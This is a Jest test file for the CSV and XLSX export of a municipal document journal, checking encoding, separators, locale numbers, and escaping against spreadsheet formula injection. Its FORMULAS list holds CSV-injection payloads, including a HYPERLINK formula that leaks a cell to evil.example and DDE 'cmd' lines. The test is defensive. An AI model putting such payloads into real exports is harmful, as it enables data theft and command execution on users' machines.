import { describe, expect, it } from '@jest/globals';
import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { printTabular } from '../../engine/printing/printReport.js';
import { Invalid } from '../../engine/errors.js';
import type { JournalData, JournalRow } from '../../engine/printing/reportData.js';
import { aJournal, aPrintContext, controlRows, printToBuffer } from './printingFixtures.js';

/** Cells that a spreadsheet would run as a formula, as anyone may type them into a subject. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  '\t=1+1',
  '\r=1+1',
];

/** Reads `;`-separated CSV as a spreadsheet does: quoted fields with `""` inside, CRLF records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i]!;
    if (quoted && char === '"' && text[i + 1] === '"') {
      cell += '"';
      i += 1;
    } else if (char === '"') {
      quoted = !quoted;
    } else if (!quoted && char === ';') {
      record.push(cell);
      cell = '';
    } else if (!quoted && char === '\r' && text[i + 1] === '\n') {
      records.push([...record, cell]);
      record = [];
      cell = '';
      i += 1;
    } else {
      cell += char;
    }
  }
  return records;
}

async function* rowsOf(rows: Partial<JournalRow>[]): AsyncIterable<JournalRow> {
  for (const [index, row] of rows.entries()) {
    yield {
      registrationNumber: `3-12/2026/${index + 1}`,
      registeredOn: '2026-03-02',
      correspondent: 'Jānis Ozoliņš',
      theirNumber: null,
      theirDate: null,
      subject: 'Par ūdensvadu',
      resolution: null,
      executors: [],
      dueDate: null,
      executedOn: null,
      caseFile: null,
      ...row,
    };
  }
}

const journalOf = (rows: Partial<JournalRow>[]): JournalData => ({
  register: { code: 'IEN', name: 'Ienākošie dokumenti' },
  from: '2026-03-01',
  to: '2026-03-31',
  rows: rowsOf(rows),
});

describe('CSV and XLSX exports', () => {
  it('writes the journal as CSV: BOM, semicolons, ISO dates, quoted where needed, Latvian intact', async () => {
    // when
    const csv = await printToBuffer((output) =>
      printTabular('journal', 'csv', aJournal(3), aPrintContext('lv'), output),
    );
    // then
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = csv.subarray(3).toString('utf8').split('\r\n');
    expect(lines[0]).toBe(
      'Nr.;Datums;Korespondents;Sūtītāja Nr.;Sūtītāja datums;Saturs;Rezolūcija;Izpildītāji;Izpildes termiņš;Izpildīts;Lieta',
    );
    expect(lines[1]).toBe(
      '3-12/2026/1;2026-03-02;"SIA ""Ķekavas nami""";1-7/1;2026-02-27;Par ūdensvada remontu Rīgas ielā (1);Izskatīt un sagatavot atbildi;Līga Kalniņa;2026-04-15;2026-04-10;3-12',
    );
    expect(lines[3]).toContain(';;Ģimenes pabalsta piešķiršana (3);');
    expect(lines).toHaveLength(5);
  });

  it('writes numbers in CSV with the locale decimal separator', async () => {
    // given
    const statistics = {
      from: '2026-01-01',
      to: '2026-03-31',
      departments: [
        {
          department: 'Социальная служба',
          received: 5,
          completedOnTime: 3,
          completedLate: 1,
          open: 1,
          averageProcessingDays: 2.5,
        },
      ],
    };
    // when
    const csv = await printToBuffer((output) =>
      printTabular('statistics', 'csv', statistics, aPrintContext('ru'), output),
    );
    // then
    expect(csv.toString('utf8')).toContain('\r\nСоциальная служба;5;3;1;1;2,5\r\n');
  });

  it('writes the control report as XLSX with real dates and numbers, and reads back the same', async () => {
    // given
    const rows = controlRows([
      {
        department: 'Құрылыс бөлімі',
        executor: 'Сәуле Өмірбекова',
        registrationNumber: '01-15/2026/301',
        subject: 'Өтініш: ёлка',
        task: 'Жауап дайындау',
        assignedOn: '2026-03-02',
        dueDate: '2026-03-30',
      },
      {
        department: 'Būvvalde',
        executor: 'Jānis Ozoliņš',
        registrationNumber: '3-12/2026/15',
        subject: 'Šķūņa nojaukšana',
        task: 'Izvērtēt',
        assignedOn: '2026-03-06',
        dueDate: '2026-04-21',
      },
    ]);
    // when
    const xlsx = await printToBuffer((output) =>
      printTabular('control', 'xlsx', { asOf: '2026-04-10', rows }, aPrintContext('kk'), output),
    );
    // then
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.read(Readable.from([xlsx]));
    const sheet = workbook.worksheets[0]!;
    expect(sheet.rowCount).toBe(3);
    expect(sheet.getRow(1).getCell(1).value).toBe('Бөлім');
    expect(sheet.getRow(2).values).toEqual([
      undefined,
      'Құрылыс бөлімі',
      'Сәуле Өмірбекова',
      '01-15/2026/301',
      'Өтініш: ёлка',
      'Жауап дайындау',
      new Date('2026-03-02T00:00:00Z'),
      new Date('2026-03-30T00:00:00Z'),
      11,
    ]);
    expect(sheet.getRow(3).getCell(2).value).toBe('Jānis Ozoliņš');
    expect(sheet.getRow(3).getCell(8).value).toBe(0);
  });

  it('writes a cell that a spreadsheet would run as a formula with a leading quote (CSV injection)', async () => {
    // given
    const rows = FORMULAS.map((formula) => ({ subject: formula, correspondent: formula, caseFile: formula }));
    // when
    const csv = await printToBuffer((output) =>
      printTabular('journal', 'csv', journalOf(rows), aPrintContext('en'), output),
    );
    // then
    const records = parseCsv(csv.subarray(3).toString('utf8'));
    expect(records).toHaveLength(1 + FORMULAS.length);
    for (const [index, formula] of FORMULAS.entries()) {
      const record = records[index + 1]!;
      expect([record[2], record[5], record[10]]).toEqual([`'${formula}`, `'${formula}`, `'${formula}`]);
    }
    // No other cell of the file starts a formula either.
    expect(records.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('leaves harmless text, inner signs and negative numbers as they are in CSV', async () => {
    // given
    const rows = [{ subject: 'Par 3-12/2026 = jā; a+b @ mājā', correspondent: " 'SIA' -" }];
    const statistics = {
      from: '2026-01-01',
      to: '2026-03-31',
      departments: [
        {
          department: '-Būvvalde',
          received: 5,
          completedOnTime: 3,
          completedLate: 1,
          open: 1,
          averageProcessingDays: -2.5,
        },
      ],
    };
    // when
    const journal = await printToBuffer((output) =>
      printTabular('journal', 'csv', journalOf(rows), aPrintContext('lv'), output),
    );
    const numbers = await printToBuffer((output) =>
      printTabular('statistics', 'csv', statistics, aPrintContext('lv'), output),
    );
    // then
    expect(journal.toString('utf8')).toContain(`; 'SIA' -;;;"Par 3-12/2026 = jā; a+b @ mājā";`);
    expect(numbers.toString('utf8')).toContain("\r\n'-Būvvalde;5;3;1;1;-2,5\r\n");
  });

  it('keeps formula-like text in XLSX as plain string cells, never formulas', async () => {
    // given
    const rows = FORMULAS.map((formula) => ({ subject: formula }));
    // when
    const xlsx = await printToBuffer((output) =>
      printTabular('journal', 'xlsx', journalOf(rows), aPrintContext('lv'), output),
    );
    // then
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.read(Readable.from([xlsx]));
    const sheet = workbook.worksheets[0]!;
    for (const [index, formula] of FORMULAS.entries()) {
      const cell = sheet.getRow(index + 2).getCell(6);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      // XML reads a bare carriage return as a line feed (XML 1.0 §2.11): the text is kept otherwise.
      expect(cell.value).toBe(formula.replace('\r', '\n'));
    }
  });

  it('refuses a CSV of a report that is not a table', async () => {
    // when
    const printing = printToBuffer((output) =>
      printTabular('order', 'csv', {} as never, aPrintContext('lv'), output),
    );
    // then
    await expect(printing).rejects.toThrow(Invalid);
  });
});
